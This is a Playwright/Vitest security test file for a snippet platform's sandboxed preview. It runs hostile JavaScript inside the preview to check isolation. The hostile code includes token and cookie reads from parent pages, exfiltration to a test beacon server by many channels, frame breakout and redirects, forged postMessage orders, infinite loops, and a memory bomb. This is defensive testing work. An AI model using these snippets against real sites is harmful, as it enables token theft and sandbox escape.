import { until } from '@snippetry/test-kit';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, inject, it } from 'vitest';
import { startBeacon } from '../../src/beacon.ts';
import { closePages, launchBrowser, openPage, sharedBrowser } from '../../src/browser.ts';
import { aPerson, type Person, signIn } from '../../src/people.ts';
import { openSnippet, startPreview } from '../../src/preview.ts';

const { url } = inject('platform');
const previews = url.replace('localhost', '127.0.0.1');
let browser: Browser;
let person: Person;
let page: Page;
let context: BrowserContext;
let beacon: Awaited<ReturnType<typeof startBeacon>>;

beforeAll(async () => {
  browser = await sharedBrowser();
  person = await aPerson(url);
  beacon = await startBeacon();
});
afterAll(() => beacon.stop());
beforeEach(async () => {
  beacon.hits.clear();
  ({ page, context } = await openPage(browser));
  await signIn(page, url, person);
});
afterEach(closePages);

/** A page of its own beside that of the test: attacks that have to be waited for are waited for together. */
async function anotherPage(): Promise<Page> {
  const opened = await openPage(browser);
  await signIn(opened.page, url, person);
  return opened.page;
}

/** Runs hostile code in a preview until it has logged "done". */
async function attack(code: string, on = page) {
  await openSnippet(on, { url, person, language: 'javascript', code });
  const open = await startPreview(on);
  await until(async () => (await open.console()).some((line) => line.trim() === 'done'), 30_000);
  return open;
}

const orderStrike = (): Promise<unknown> =>
  page.evaluate(() => frames[0]?.postMessage('strike', '*'));

/** Runs hostile code in a preview that is shown already: nothing of its start can hide it. */
async function strike(code: string, order = orderStrike) {
  const open = await attack(`
addEventListener('message', (e) => { if (e.data === 'strike') { ${code} } });
console.log('done');`);
  await order();
  return open;
}

/** What the attacks sent to another server. */
const escaped = () => [...beacon.hits].filter((path) => path.startsWith('attack/'));

/** Tries each expression and says what came of it: a value, or `refused`. */
const trying = (tries: Record<string, string>) => `
(async () => {
  const results = {};
  for (const [name, attempt] of Object.entries({
    ${Object.entries(tries)
      .map(([name, code]) => `${name}: async () => { ${code} }`)
      .join(',\n    ')}
  })) {
    try { results[name] = String(await attempt()).slice(0, 40); } catch { results[name] = 'refused'; }
  }
  return results;
})()`;

const READING = {
  parentStorage: "return parent.localStorage.getItem('token')",
  topStorage: "return top.localStorage.getItem('token')",
  parentPage: 'return parent.document.body.tagName',
  address: 'return top.location.href',
  cookies: "document.cookie = 'a=1'; return document.cookie",
  database:
    "return await new Promise((good, bad) => { const r = indexedDB.open('x'); r.onsuccess = () => good('opened'); r.onerror = bad; })",
  caches: "await caches.open('x'); return 'opened'",
};

const AROUND = {
  peers: 'return typeof RTCPeerConnection',
  inner:
    "const f = document.createElement('iframe'); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection",
  innerStorage:
    "const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.localStorage.length",
  serviceWorker: "await navigator.serviceWorker.register('/frame.js'); return 'registered'",
};

it('a previewed snippet reads neither token, storage, cookies nor page of the application, nor around through peers, frames or workers', async () => {
  const tries = trying({ ...READING, ...AROUND });
  // The same code in the application's own page does read them: it is a true attempt.
  await page.goto(`${url}/app`);
  const control = await page.evaluate<Record<string, string>>(tries);
  expect(control).toMatchObject({ parentPage: 'BODY', database: 'opened', caches: 'opened' });
  expect(control).toMatchObject({ peers: 'function', inner: 'function' });
  expect(control.parentStorage).toBe(person.token.slice(0, 40));
  const { console: lines } = await attack(
    `${tries}.then((r) => { console.log(JSON.stringify(r)); console.log(String(localStorage.getItem('token'))); console.log('done'); });`,
  );
  const [said = '{}', own] = await lines();
  const refused = Object.keys({ ...READING, ...AROUND }).map((name) => [name, 'refused']);
  expect(JSON.parse(said)).toEqual({ ...Object.fromEntries(refused), peers: 'undefined' });
  expect(own?.trim()).toBe('null');
});

/** Ways to reach another server, each at a path of its own below `place`. */
const reaching = (place: string) => `
const B = ${JSON.stringify(`${beacon.url}/${place}`)};
const put = (html) => document.body.insertAdjacentHTML('beforeend', html);
const tries = [
  () => fetch(B + '/fetch').catch(() => {}),
  () => { const x = new XMLHttpRequest(); x.open('GET', B + '/xhr'); x.send(); },
  () => navigator.sendBeacon(B + '/beacon', 'x'),
  () => new WebSocket(B.replace('http', 'ws') + '/socket'),
  () => new EventSource(B + '/events'),
  () => { new Image().src = B + '/image'; },
  () => put('<link rel="stylesheet" href="' + B + '/sheet">'),
  () => put('<style>@import url(' + B + '/import); body { background: url(' + B + '/background) }</style>'),
  () => new FontFace('x', 'url(' + B + '/font)').load().catch(() => {}),
  () => put('<video src="' + B + '/video"></video>'),
  () => put('<object data="' + B + '/object"></object>'),
  () => put('<iframe src="' + B + '/frame"></iframe>'),
  () => { const s = document.createElement('script'); s.src = B + '/script'; document.body.append(s); },
  () => new Worker(URL.createObjectURL(new Blob(['importScripts("' + B + '/worker")']))),
  () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = B + '/prefetch'; document.head.append(l); },
  () => { put('<form id="f" action="' + B + '/form" target="hidden"></form><iframe name="hidden"></iframe>'); document.getElementById('f').submit(); },
];
for (const one of tries) { try { one(); } catch {} }
`;
const WAYS =
  'fetch xhr beacon socket events image sheet import background font video object frame script worker prefetch form';

/** Ways to open a window and to turn the whole tab into another site. */
const breakingOut = (place: string) => `
const results = [];
const attempt = (f) => { try { results.push(String(f())); } catch { results.push('refused'); } };
attempt(() => window.open('${beacon.url}/${place}/popup'));
attempt(() => { top.location.href = '${beacon.url}/${place}/top'; return 'moved'; });
attempt(() => { parent.location.replace('${beacon.url}/${place}/top'); return 'moved'; });
const a = document.createElement('a'); a.href = '${beacon.url}/${place}/top'; a.target = '_top'; document.body.append(a);
a.onclick = (e) => e.stopPropagation();
a.click();
console.log(results.join(' '));`;

it('a previewed snippet reaches no other server, opens no windows and does not touch the page around it', async () => {
  const before = page.url();
  const { console: lines } = await attack(
    `${breakingOut('attack')}\n${reaching('attack')}\nconsole.log('done');`,
  );
  expect((await lines())[0]).toBe('null refused refused');
  // The same code in pages that may do it, begun later, has arrived by every way, opened a window and moved its tab.
  const [free, moving] = [await context.newPage(), await context.newPage()];
  await free.goto(`${beacon.url}/blank`);
  await free.evaluate(reaching('control'));
  await moving.goto(`${beacon.url}/blank`);
  const popup = moving.waitForEvent('popup');
  // Not waited for: a script whose page goes elsewhere may never answer.
  void moving.evaluate(breakingOut('control')).catch(() => undefined);
  const arrived = [...WAYS.split(' '), 'popup', 'top'];
  await until(() => arrived.every((way) => beacon.hits.has(`control/${way}`)), 30_000);
  // Left open: closing a page that is on its way elsewhere may never end.
  const opened = await popup;
  expect(context.pages()).toEqual([page, free, moving, opened]);
  expect(new URL(page.url()).origin).toBe(new URL(before).origin);
  expect(escaped()).toEqual([]);
});

/** Ways in which a frame becomes another site's. */
const TURNING: Record<string, (address: string) => string> = {
  script: (address) => `location.href = '${address}';`,
  form: (address) =>
    `const f = document.createElement('form'); f.action = '${address}'; document.body.append(f); f.submit();`,
  meta: (address) =>
    `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${address}">');`,
};

it('neither a script, a form nor a meta element turns the frame of a preview into another site', async () => {
  const turn = async (way: string, codeFor: (address: string) => string) => {
    const on = await anotherPage();
    const free = await on.context().newPage();
    await free.goto(`${beacon.url}/blank`);
    // Not waited for: a script whose page goes elsewhere may never answer.
    void free.evaluate(codeFor(`${beacon.url}/control-${way}`)).catch(() => undefined);
    await until(() => beacon.hits.has(`control-${way}`));
    const code = codeFor(`${beacon.url}/self-${way}`);
    await openSnippet(on, { url, person, language: 'javascript', code });
    const { dialog } = await startPreview(on);
    await dialog.getByRole('alert').getByText('does not answer').waitFor({ timeout: 30_000 });
    expect([...beacon.hits]).not.toContain(`self-${way}`);
    await dialog.getByRole('button', { name: 'Stop the preview' }).click();
    expect(await dialog.locator('iframe').count()).toBe(0);
  };
  await Promise.all(Object.entries(TURNING).map(([way, codeFor]) => turn(way, codeFor)));
});

it('a preview cannot take its frame to the application’s own origin, not even to a page that all sites may embed', async () => {
  const body = { title: 'Target', description: 'd', content: 'const target = 1;', isPublic: true };
  const { snippet } = (await person.api.call('POST /snippets', { body })).data;
  const turn = async (address: string) => {
    const on = await anotherPage();
    const code = `location.href = '${address}';`;
    await openSnippet(on, { url, person, language: 'javascript', code });
    const { dialog } = await startPreview(on);
    await dialog.getByRole('alert').getByText('does not answer').waitFor({ timeout: 30_000 });
    return on
      .frames()
      .slice(1)
      .map((frame) => frame.url());
  };
  const addresses = [`${url}/api/snippets/${snippet._id}/embed`, `${url}/app`, `${previews}/app`];
  const shown = await Promise.all(addresses.map(turn));
  expect(shown.flat().filter((address) => address.startsWith(url))).toEqual([]);
});

/** Whether the page still runs scripts and answers clicks, well within a second of work. */
async function isResponsive(on = page): Promise<boolean> {
  const ticks = on.evaluate(
    () =>
      new Promise<number>((resolve) => {
        let count = 0;
        const timer = setInterval(() => {
          count += 1;
          if (count === 10) {
            clearInterval(timer);
            resolve(count);
          }
        }, 10);
      }),
  );
  return (await ticks) === 10;
}

it('the page stays alive beside endless loops in a preview: they are stopped, and said which where that can be seen', async () => {
  const unseen = async () => {
    // Made by eval, the loop is one that no compiler has guarded.
    const { dialog } = await strike("eval('while (true) {}');");
    await dialog.getByRole('alert').getByText('does not answer').waitFor({ timeout: 30_000 });
    expect(await isResponsive()).toBe(true);
    await dialog.getByRole('button', { name: 'Stop the preview' }).click();
    await dialog.getByText('Nothing of the snippet runs any more').waitFor();
    await until(() => page.frames().length === 1);
    await dialog.getByRole('button', { name: 'Run again' }).click();
    await dialog.locator('iframe').waitFor();
  };
  const seen = async () => {
    const on = await anotherPage();
    const code = 'let n = 0;\nwhile (true) n++;';
    await openSnippet(on, { url, person, language: 'javascript', code });
    const { frame, dialog } = await startPreview(on);
    const alert = frame.getByRole('alert');
    await alert.getByText('ran for 4 seconds').waitFor({ timeout: 30_000 });
    await alert.getByText('Line 2').waitFor();
    await dialog.getByRole('status').filter({ hasText: 'with errors' }).waitFor();
  };
  await Promise.all([unseen(), seen()]);
});

it('the page survives a memory bomb in a preview', async () => {
  const code = `const kept = []; eval("for (;;) kept.push(new Array(1e6).fill(Math.random()))");`;
  // Little memory for scripts, so that the test's machine is spared.
  const small = await launchBrowser(['--js-flags=--max-old-space-size=192']);
  try {
    ({ page, context } = await openPage(small));
    await signIn(page, url, person);
    // Playwright gives a page up when the process of one of its frames dies; the page itself is asked past it.
    const session = await context.newCDPSession(page);
    const ask = async (expression: string): Promise<unknown> =>
      (await session.send('Runtime.evaluate', { expression })).result.value;
    const crashed = new Promise((resolve) => page.once('crash', resolve));
    await strike(code, () => ask("frames[0].postMessage('strike', '*')"));
    await crashed;
    await until(() => ask("document.querySelector('[role=alert] button')?.textContent"), 30_000);
    await ask("document.querySelector('[role=alert] button').click()");
    await until(() => ask("document.body.innerText.includes('Nothing of the snippet runs')"));
    expect(await ask("document.querySelectorAll('iframe').length")).toBe(0);
  } finally {
    await small.close();
  }
});

it('a preview believes neither forged greetings nor forged orders', async () => {
  const code = `
addEventListener('message', (e) => console.log('got ' + (e.data && e.data.type)));
parent.postMessage({ type: 'preview:ready' }, '*');
const { port1 } = new MessageChannel();
window.postMessage({ type: 'preview:init', kind: 'html', code: '<h1>forged</h1>', libs: {} }, '*', [port1]);
document.body.append('the real one');
console.log('done');`;
  await page.addInitScript(() => {
    let greetings = 0;
    addEventListener('message', (event) => {
      if (event.data?.type === 'preview:init') document.title = 'leaked';
      if (event.data?.type !== 'preview:ready') return;
      greetings += 1;
      document.documentElement.dataset.greetings = String(greetings);
    });
  });
  const { frame, console: lines } = await attack(code);
  /** What the frame was told, up to an end that comes after all that the application would say. */
  const told = async (greetings: number) => {
    await page.locator(`html[data-greetings="${greetings}"]`).waitFor();
    await page.evaluate(() => frames[0]?.postMessage({ type: 'end' }, '*'));
    const got = async () => (await lines()).filter((line) => line.startsWith('got'));
    await until(
      async () => (await got()).filter((line) => line === 'got end').length === greetings - 1,
    );
    return got();
  };
  // Its own forgery reached it, which shows that it listened; the application sent nothing more.
  expect(await told(2)).toEqual(['got preview:init', 'got end']);
  await frame.getByText('the real one').waitFor();
  expect(await frame.getByText('forged').count()).toBe(0);
  // A window that is not the frame greets the application, and orders of the application come too late.
  await page.evaluate(() => {
    window.postMessage({ type: 'preview:ready' }, '*');
    const order = { type: 'preview:init', kind: 'html', code: '<h1>forged</h1>', libs: {} };
    frames[0]?.postMessage(order, '*', [new MessageChannel().port1]);
  });
  expect(await told(3)).toEqual([
    ...['got preview:init', 'got end'],
    ...['got preview:init', 'got end'],
  ]);
  expect(await frame.getByText('forged').count()).toBe(0);
  expect(await page.title()).not.toBe('leaked');
});

it('a preview is shown inside the application only', async () => {
  const stranger = await context.newPage();
  await stranger.goto(`${beacon.url}/blank`);
  await stranger.evaluate((address) => {
    const frame = document.createElement('iframe');
    frame.src = `${address}/frame.html`;
    document.body.append(frame);
  }, previews);
  await until(() => stranger.frames().some((one) => one.url().startsWith('chrome-error:')));
  expect(stranger.frames().some((one) => one.url().startsWith(previews))).toBe(false);
});

it('a preview loses its frame when that floods the page with messages', async () => {
  const { dialog } = await strike("for (let i = 0; i < 20000; i++) parent.postMessage('x', '*');");
  await dialog.getByText('more messages than a page can bear').waitFor({ timeout: 30_000 });
  expect(await dialog.locator('iframe').count()).toBe(0);
  expect(await isResponsive()).toBe(true);
});
